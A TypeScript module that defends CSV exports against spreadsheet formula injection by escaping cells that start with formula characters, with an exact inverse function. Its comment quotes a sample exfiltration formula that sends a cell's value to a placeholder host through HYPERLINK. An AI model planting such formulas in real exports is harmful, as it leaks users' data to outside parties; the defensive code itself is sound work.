/**
 * Spreadsheet formula injection in CSV exports. A cell that starts with = + - @, a tab or a CR (or the
 * full-width = + - @) is run as a formula when the file is opened in Excel, Sheets or LibreOffice
 * (`=HYPERLINK("https://evil.example/?c="&A1, ...)`): product titles and customer ids are anyone's text.
 * Such text gets a leading `'`, which spreadsheets show as text. Plain numbers (`-42`, `+447911123456`)
 * are not formulas and stay as they are. Text that starts with `'` gets one more, so the escaping can be
 * undone exactly (the erasure's scrub of export files compares the customer id as it was).
 */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20']/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/** The cell as the CSV export writes `text`. */
export function formulaEscaped(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/** The text a cell written by formulaEscaped held. */
export function formulaUnescaped(cell: string): string {
  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
}
